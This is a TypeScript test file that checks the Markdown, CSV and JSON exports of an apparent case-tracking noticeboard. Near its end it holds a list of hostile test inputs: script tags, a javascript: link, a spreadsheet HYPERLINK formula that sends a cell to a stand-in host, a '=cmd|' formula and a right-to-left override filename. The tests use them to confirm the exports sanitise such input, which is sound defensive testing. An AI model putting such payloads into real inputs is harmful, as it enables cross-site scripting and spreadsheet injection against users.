import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { createStore } from '../../../../mocks/store.ts'
import type { Case } from '../../../../src/domain/case/case.ts'
import { type Day, parseDay } from '../../../../src/domain/dates/day.ts'
import { EMPTY_QUERY } from '../../../../src/domain/query/query.ts'
import { parseQuery } from '../../../../src/domain/query/query-codec.ts'
import { summarise } from '../../../../src/domain/summary/summary.ts'
import type { ExportKind } from '../../../../src/features/export/formats/registry.ts'
import { en } from '../../../../src/messages/en/en.ts'
import { enWords } from '../../../../src/messages/en/words.ts'
import type { Words } from '../../../../src/messages/types.ts'
import { makeCase, makeEvent, makeNotice, makeSource } from '../../../support/make-case.ts'
import { makeFileOf } from '../../../support/make-file.ts'
import { rawDataset } from '../../../support/real-dataset.ts'

const words: Words = { ...en, ...enWords }

const { dataset } = createStore(rawDataset)
const day = (text: string): Day => parseDay(text) ?? Number.NaN
const KINDS: readonly ExportKind[] = ['markdown', 'cases', 'statements', 'json']
const DAYS = ['2013-09-05', '2014-03-01', dataset.compiled] as const

function summariseAll(asOf: string, records: readonly Case[] = dataset.cases, sources = dataset.sources) {
  return summarise({
    records,
    sources,
    query: EMPTY_QUERY,
    asOf: day(asOf),
    compiled: day(dataset.compiled),
    dataVersion: dataset.dataVersion,
    article: dataset.article.source,
  })
}

async function exportAll(
  kind: ExportKind,
  asOf: string,
  {
    records,
    sources,
  }: { readonly records?: readonly Case[]; readonly sources?: typeof dataset.sources } = {},
): Promise<string> {
  const summary = summariseAll(asOf, records, sources)
  const names = new Map(dataset.cases.map((one) => [one.id, one.person.name]))
  const context = { title: 'Cases', isBoard: true, onRecord: summary.cases.length, names, leftOut: [] }
  return (await makeFileOf(kind, summary, { context, m: words })).text
}

/** Reduces a text to letters and digits, without citations and Markdown escapes. */
const letters = (text: string) =>
  text
    .replaceAll(/\{s\d+\}/g, ' ')
    .replaceAll(/\[\^\d+\]|source \d+|&[a-z#0-9]+;/g, ' ')
    .replaceAll(/[^\p{L}\p{N}]+/gu, ' ')
    .trim()

/** The longest part of a text between citations, to search for in a file. */
const longest = (text: string) =>
  letters(text.split(/\{s\d+\}/).toSorted((a, b) => b.length - a.length)[0] ?? '')

test.each(DAYS)(
  'as of %s the Markdown contains every event, notice, claim and relation on record, and no later event',
  async (asOf) => {
    const file = letters(await exportAll('markdown', asOf))
    const { cases } = summariseAll(asOf)
    for (const one of cases) {
      for (const { event } of one.chronology) {
        expect(file).toContain(letters(event.title ?? 'none'))
        expect(file).toContain(longest(event.detail ?? 'none'))
        expect(file).toContain(letters(event.attributedTo?.name ?? 'none'))
        expect(file).toContain(letters(en.claimKind[event.attributedTo?.kind ?? 'opinion']))
      }
      for (const { notice } of one.notices) expect(file).toContain(letters(notice.calledInArticle ?? 'none'))
      for (const claim of one.claims) expect(file).toContain(longest(claim.text ?? 'none'))
      const shown = new Set(one.chronology.map(({ event }) => event.id))
      const titles = one.chronology.map(({ event }) => event.title)
      for (const later of one.record.events.filter(
        ({ id, title }) => !shown.has(id) && !titles.includes(title),
      )) {
        expect(file).not.toContain(longest(later.detail ?? 'none'))
      }
    }
  },
)

test.each(DAYS)(
  'as of %s each source that the Markdown cites is listed once, with its title',
  async (asOf) => {
    const file = await exportAll('markdown', asOf)
    const { sources } = summariseAll(asOf)
    const cited = new Set([...file.matchAll(/\[\^(\d+)\](?!:)/g)].map(([, number]) => Number(number)))
    const listed = [...file.matchAll(/^\[\^(\d+)\]:/gm)].map(([, number]) => Number(number))
    expect(listed).toEqual(sources.map(({ number }) => number))
    expect([...cited].toSorted((a, b) => a - b)).toEqual(listed)
    for (const { source } of sources) expect(letters(file)).toContain(letters(source?.title ?? ''))
  },
)

test.each(KINDS)('the %s file states day, filters and data version', async (kind) => {
  const { query } = parseQuery('held=PL&q=ket')
  const summary = { ...summariseAll('2013-09-05'), query }
  const context = { title: 'Cases', isBoard: true, onRecord: 5, names: new Map(), leftOut: ['broken'] }
  const { text } = await makeFileOf(kind, summary, { context, m: words })
  expect(text).toContain('2013-09-05')
  expect(text).toContain(dataset.dataVersion)
  expect(text).toContain(kind === 'json' ? 'q=ket&held=PL' : 'Detained in: Poland')
})

const editorNotes = [...JSON.stringify(rawDataset).matchAll(/"editorNote":"((?:[^"\\]|\\.)*)"/g)].map(
  ([, note = '']) => note,
)
const hidden = dataset.sources.find((source) => source.addressHidden)

test.each(KINDS)("the %s file contains no editor's note and no hidden address", async (kind) => {
  const file = await exportAll(kind, dataset.compiled)
  expect(editorNotes.length).toBe(6)
  for (const note of editorNotes) expect(file).not.toContain(note.slice(0, 40))
  expect(hidden?.url.length).toBeGreaterThan(30)
  expect(file).not.toContain(hidden?.url.slice(30) ?? '')
  // The table of cases cites only the sources of the list, which do not include this one.
  if (kind !== 'cases') expect(file).toContain(hidden?.title)
})

test('a board file starts with the list in the columns of the query, a case file with the name of the case', async () => {
  const summary = { ...summariseAll('2013-09-05'), query: parseQuery('columns=person,custody').query }
  const context = { title: 'Cases', isBoard: true, onRecord: 5, names: new Map(), leftOut: [] }
  const { text: board } = await makeFileOf('markdown', summary, { context, m: words })
  expect(board).toContain(
    '| Person | Custody |\n| --- | --- |\n| Muratbek Ketebayev | At liberty, since 13 Jun 2013 ',
  )
  for (const { person } of dataset.cases) expect(board).toContain(`\n## ${person.name}\n`)
  const { text: single } = await makeFileOf('markdown', summary, {
    context: { ...context, isBoard: false },
    single: 'x',
    m: words,
  })
  expect(single).not.toContain('| Person |')
})

test('an accusation is marked as one everywhere', async () => {
  const file = await exportAll('markdown', dataset.compiled)
  const rows = Papa.parse<string[]>((await exportAll('statements', dataset.compiled)).slice(1)).data
  const whose = rows[0]?.indexOf('Whose words') ?? -1
  const accusations = dataset.cases.flatMap((one) =>
    one.events.filter(({ attributedTo }) => attributedTo?.kind === 'state-accusation'),
  )
  expect(accusations.length).toBeGreaterThan(3)
  expect(rows.filter((row) => row[whose] === 'Accusation by a state').length).toBeGreaterThanOrEqual(
    accusations.length,
  )
  expect(file.match(/Accusation by a state: /g)?.length).toBeGreaterThanOrEqual(accusations.length)
})

test('the tables have one row per case, and one per statement', async () => {
  const parse = async (kind: ExportKind) =>
    Papa.parse<string[]>((await exportAll(kind, dataset.compiled)).slice(1).trimEnd()).data
  const cases = await parse('cases')
  expect(cases.map((row) => row.length)).toEqual(cases.map(() => cases[0]?.length))
  expect(cases.slice(1).map(([name]) => name)).toEqual(dataset.cases.map(({ person }) => person.name))
  // Each person has a row, and so does a note on the notices of a case.
  expect(await parse('statements')).toHaveLength(1 + 100 + 7 + 28 + 10 + 5 + 1)
})

test('the table of cases has the columns of the address', async () => {
  const summary = { ...summariseAll('2013-09-05'), query: parseQuery('columns=person,custody').query }
  const context = { title: 'Cases', isBoard: true, onRecord: 5, names: new Map(), leftOut: [] }
  const { text } = await makeFileOf('cases', summary, { context, m: words })
  const [head = [], first = []] = Papa.parse<string[]>(text.slice(1)).data
  expect(head.slice(0, 5)).toEqual(['Case', 'Id', 'Also written', 'Custody', 'Custody since'])
  expect(head).not.toContain('Detained in')
  expect(head).toContain('Sources')
  expect(first[3]).toBe('At liberty')
  expect(first).toHaveLength(head.length)
})

test.each(KINDS)('the %s file is deterministic', async (kind) => {
  expect(await exportAll(kind, '2014-03-01')).toBe(await exportAll(kind, '2014-03-01'))
})

test('the JSON contains keys, EDTF and citations unchanged, and nothing after the day', async () => {
  const file = JSON.parse(await exportAll('json', '2013-09-05'))
  expect(file.format).toBe('noticeboard-export')
  const ketebayev = file.cases[0]
  expect(ketebayev.asOf.tracks.case).toEqual({
    value: 'extradition-requested',
    since: '2013-06-13',
    setBy: 'ket-2013-06-13-release',
  })
  expect(ketebayev.events.map((event: { id: string }) => event.id)).not.toContain('ket-2014-12-27-detention')
  expect(file.sources.find((source: { id: string }) => source.id === 's112')).toBeUndefined()
  const latest = JSON.parse(await exportAll('json', dataset.compiled))
  expect(latest.sources.find((source: { id: string }) => source.id === 's112')).toMatchObject({
    addressHidden: true,
  })
})

const HOSTILE = [
  '<script>alert(1)</script>',
  '=HYPERLINK("https://example.org?"&A1)',
  '[x](javascript:alert(1))',
  '![](https://example.org/pixel.png)',
  '| a | b |\n|---|---|',
  '```\n# heading',
  '\u202egnp.exe',
  '1. list\r\n> quote',
  'https://example.org/bare',
  '{s1} {s999} \ue0001\ue001',
] as const

const hostile = makeCase({
  id: 'hostile',
  person: {
    name: '=cmd|<img onerror=1>',
    aliases: [...HOSTILE],
    description: HOSTILE.join('\n'),
    nationalityAsReported: [],
    nationalityCitation: { source: 's1' },
  },
  events: HOSTILE.map((text, i) =>
    makeEvent({
      id: `e${i}`,
      date: '2013-01-01',
      title: text,
      detail: text,
      note: text,
      attributedTo: { name: text, kind: 'opinion' },
    }),
  ),
  notices: [
    makeNotice({ id: 'n', calledInArticle: HOSTILE[0], firstEffect: '2013-01-01', grounds: HOSTILE[1] }),
  ],
})
const hostileSource = [
  makeSource({ id: 's1', title: HOSTILE[2], publisher: HOSTILE[0], url: 'javascript:alert(1)' }),
  makeSource({ id: 's999', title: HOSTILE[3], url: 'https://user:secret@example.org/<x>' }),
]

test('hostile text stays plain text in Markdown: no markup, no links except those of sources, no new lines', async () => {
  const file = await exportAll('markdown', dataset.compiled, { records: [hostile], sources: hostileSource })
  expect(file).not.toMatch(/(?<!\\)<(?!https:\/\/example\.org)/)
  expect(file).not.toMatch(/(?<!\\)\]\(/)
  expect(file).not.toMatch(/^(?:```|#{1,6} heading)/m)
  // The table of the list: head, rule and one row, with the same number of cells.
  const table = file.split('\n').filter((line) => line.startsWith('|'))
  expect(table.map((line) => line.split(/(?<!\\)\|/).length)).toEqual([10, 10, 10])
  expect(file).not.toContain('\u202e')
  expect(file).not.toMatch(/(?<!<)https?:\/\//)
  expect(file).not.toContain('secret')
  expect(file).not.toContain('<javascript:')
})

test('file names contain only letters, digits and hyphens', async () => {
  const context = { title: 'x', isBoard: false, onRecord: 1, names: new Map(), leftOut: [] }
  const { name } = await makeFileOf('markdown', summariseAll('2013-09-05'), {
    context,
    single: '../a b\u202e<img>',
    m: words,
  })
  expect(name).toMatch(/^[\p{L}\p{N}-]+\.md$/u)
  expect(
    (await makeFileOf('markdown', summariseAll('2013-09-05'), { context, single: 'ablyazov', m: words }))
      .name,
  ).toBe('ablyazov-case-summary-2013-09-05.md')
})
